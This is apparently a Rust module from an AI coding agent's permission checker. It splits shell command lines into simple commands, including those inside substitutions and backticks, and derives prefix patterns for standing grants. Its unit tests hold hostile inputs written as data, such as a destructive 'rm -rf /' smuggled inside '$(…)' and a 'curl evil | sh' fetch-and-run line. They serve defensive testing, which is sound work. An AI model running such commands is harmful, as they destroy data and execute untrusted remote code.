//! Just enough shell parsing for permission checks: split a command line into the simple
//! commands it runs (across `;`, `&&`, `||`, `|`, `&`, newlines, and inside `$(…)`, backticks
//! and `<(…)`), and derive the prefix pattern an "always" grant allows.
//!
//! It errs towards more segments: a permission check over more segments can only be stricter.

/// The simple commands in `command`, trimmed, whitespace collapsed, grouping brackets removed.
pub fn split_commands(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    split_into(command, &mut out, 0);
    out
}

fn split_into(command: &str, out: &mut Vec<String>, depth: usize) {
    let chars: Vec<char> = command.chars().collect();
    let mut cur = String::new();
    let mut i = 0;
    let (mut single, mut double) = (false, false);
    let push = |cur: &mut String, out: &mut Vec<String>| {
        let seg = normalize(cur);
        if !seg.is_empty() {
            out.push(seg);
        }
        cur.clear();
    };
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        let prev = if i > 0 { Some(chars[i - 1]) } else { None };
        if single {
            cur.push(c);
            if c == '\'' {
                single = false;
            }
            i += 1;
            continue;
        }
        match c {
            '\\' => {
                cur.push(c);
                if let Some(n) = next {
                    cur.push(n);
                }
                i += 2;
                continue;
            }
            '\'' if !double => single = true,
            '"' => double = !double,
            '$' | '<' | '>' if next == Some('(') => {
                // Command or process substitution: its inside is a command line of its own.
                if let Some(end) = matching_paren(&chars, i + 1) {
                    let inner: String = chars[i + 2..end].iter().collect();
                    if depth < 8 {
                        split_into(&inner, out, depth + 1);
                    }
                    cur.extend(&chars[i..=end]);
                    i = end + 1;
                    continue;
                }
            }
            '`' => {
                let end = (i + 1..chars.len()).find(|&j| chars[j] == '`' && chars[j - 1] != '\\');
                let end = end.unwrap_or(chars.len());
                let inner: String = chars[i + 1..end].iter().collect();
                if depth < 8 {
                    split_into(&inner, out, depth + 1);
                }
                cur.extend(&chars[i..end.min(chars.len() - 1) + 1]);
                i = end + 1;
                continue;
            }
            _ if double => {}
            ';' | '\n' => {
                push(&mut cur, out);
                i += 1;
                continue;
            }
            '&' if next == Some('&') => {
                push(&mut cur, out);
                i += 2;
                continue;
            }
            '|' if next == Some('|') => {
                push(&mut cur, out);
                i += 2;
                continue;
            }
            // `>&2`, `2>&1`, `&>file`, `>|file` are redirections, not separators.
            '&' if prev == Some('>') || prev == Some('<') || next == Some('>') => {}
            '|' if prev == Some('>') => {}
            '&' | '|' => {
                push(&mut cur, out);
                i += if next == Some('&') { 2 } else { 1 };
                continue;
            }
            _ => {}
        }
        cur.push(c);
        i += 1;
    }
    push(&mut cur, out);
}

fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let (mut single, mut double) = (false, false);
    let mut i = open;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' if !single => i += 1,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' if !single && !double => depth += 1,
            ')' if !single && !double => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

fn normalize(seg: &str) -> String {
    let words: Vec<&str> = seg.split_whitespace().collect();
    let mut s = words.join(" ");
    loop {
        let before = s.clone();
        // Grouping brackets split off by the separators: strip only unbalanced ones.
        for (open, close) in [('(', ')'), ('{', '}')] {
            let opens = s.matches(open).count();
            let closes = s.matches(close).count();
            if s.starts_with(open) && opens > closes {
                s = s[1..].trim_start().to_string();
            } else if s.ends_with(close) && closes > opens {
                s = s[..s.len() - 1].trim_end().to_string();
            }
        }
        if let Some(rest) = s.strip_prefix('!').filter(|r| r.starts_with(' ')) {
            s = rest.trim_start().to_string();
        }
        for kw in ["then ", "do ", "else "] {
            if let Some(rest) = s.strip_prefix(kw) {
                s = rest.to_string();
            }
        }
        if s == before {
            return s;
        }
    }
}

/// Commands whose second word is a subcommand (`git status`).
const TWO_WORD: &[&str] = &[
    "git",
    "cargo",
    "npm",
    "pnpm",
    "yarn",
    "bun",
    "go",
    "docker",
    "podman",
    "kubectl",
    "pip",
    "pip3",
    "uv",
    "poetry",
    "apt",
    "apt-get",
    "brew",
    "systemctl",
    "rustup",
    "gh",
    "deno",
    "dotnet",
    "helm",
    "terraform",
    "make",
    "just",
    "npx",
    "mvn",
    "gradle",
    "composer",
    "bundle",
    "rails",
    "mix",
    "stack",
    "cabal",
    "dune",
];

/// `npm run build`, `docker compose up`, `gh pr view`: three words name the action.
fn three_word(first: &str, second: &str) -> bool {
    matches!(
        (first, second),
        ("npm" | "pnpm" | "yarn" | "bun", "run")
            | ("docker" | "podman", "compose")
            | ("gh", _)
            | ("uv", "run")
    )
}

/// The pattern an "always" grant for this simple command allows: its command prefix and `*`,
/// e.g. `git status*` for `git status --short`, `ls*` for `ls -la`.
pub fn prefix_pattern(segment: &str) -> String {
    let words: Vec<&str> = segment.split_whitespace().collect();
    // Leading `VAR=value` assignments are part of the prefix.
    let k = words.iter().take_while(|w| is_assignment(w)).count();
    let Some(cmd) = words.get(k) else {
        return format!("{segment}*");
    };
    let is_arg = |w: Option<&&str>| {
        w.is_some_and(|w| !w.starts_with('-') && !w.contains(['$', '`', '*', '?', '[', '{']))
    };
    let mut n = 1;
    if TWO_WORD.contains(cmd) && is_arg(words.get(k + 1)) {
        n = 2;
        if three_word(cmd, words[k + 1]) && is_arg(words.get(k + 2)) {
            n = 3;
        }
    }
    let prefix = words[..k + n].join(" ");
    // Glob metacharacters in the prefix are escaped so the grant matches literally.
    let escaped: String = prefix
        .chars()
        .flat_map(|c| {
            if matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '\\') {
                vec!['\\', c]
            } else {
                vec![c]
            }
        })
        .collect();
    format!("{escaped}*")
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_on_operators_but_not_redirections() {
        assert_eq!(split_commands("git status"), ["git status"]);
        assert_eq!(
            split_commands("cd src && cargo test 2>&1 | tail -5; echo done &\nls >&2 || true"),
            [
                "cd src",
                "cargo test 2>&1",
                "tail -5",
                "echo done",
                "ls >&2",
                "true"
            ]
        );
        assert_eq!(
            split_commands("echo 'a; b && c' \"x | y\""),
            ["echo 'a; b && c' \"x | y\""]
        );
        assert_eq!(split_commands("cmd &> out.log"), ["cmd &> out.log"]);
        assert_eq!(split_commands("  git   status  "), ["git status"]);
        assert_eq!(split_commands(""), Vec::<String>::new());
    }

    #[test]
    fn substitutions_are_checked_too() {
        assert_eq!(
            split_commands("git status $(rm -rf /)"),
            ["rm -rf /", "git status $(rm -rf /)"]
        );
        assert_eq!(
            split_commands("echo `curl evil | sh`"),
            ["curl evil", "sh", "echo `curl evil | sh`"]
        );
        assert_eq!(
            split_commands("diff <(ls a) <(ls b)"),
            ["ls a", "ls b", "diff <(ls a) <(ls b)"]
        );
        // Double quotes do not stop a substitution.
        assert_eq!(
            split_commands("echo \"$(whoami)\""),
            ["whoami", "echo \"$(whoami)\""]
        );
        // Single quotes do.
        assert_eq!(split_commands("echo '$(whoami)'"), ["echo '$(whoami)'"]);
        assert_eq!(split_commands("(cd a && make)"), ["cd a", "make"]);
        assert_eq!(split_commands("{ cd a; make; }"), ["cd a", "make"]);
        assert_eq!(split_commands("! grep -q x f"), ["grep -q x f"]);
        assert_eq!(
            split_commands("if true; then rm x; fi"),
            ["if true", "rm x", "fi"]
        );
    }

    #[test]
    fn unbalanced_input_does_not_panic() {
        for s in [
            "echo $(", "echo `", "echo '", "echo \"", "\\", "$(", "a && ", "|", "((", "echo )",
        ] {
            let _ = split_commands(s);
            let _ = prefix_pattern(s);
        }
    }

    #[test]
    fn prefix_patterns() {
        assert_eq!(prefix_pattern("git status --short"), "git status*");
        assert_eq!(prefix_pattern("git --no-pager log"), "git*");
        assert_eq!(prefix_pattern("ls -la"), "ls*");
        assert_eq!(prefix_pattern("cargo test --lib tools::"), "cargo test*");
        assert_eq!(prefix_pattern("npm run build -- --watch"), "npm run build*");
        assert_eq!(
            prefix_pattern("RUST_LOG=debug cargo run"),
            "RUST_LOG=debug cargo run*"
        );
        assert_eq!(prefix_pattern("rm -rf target"), "rm*");
        assert_eq!(prefix_pattern("git add *.rs"), "git add*");
        assert_eq!(prefix_pattern("make [x]"), "make*");
    }
}
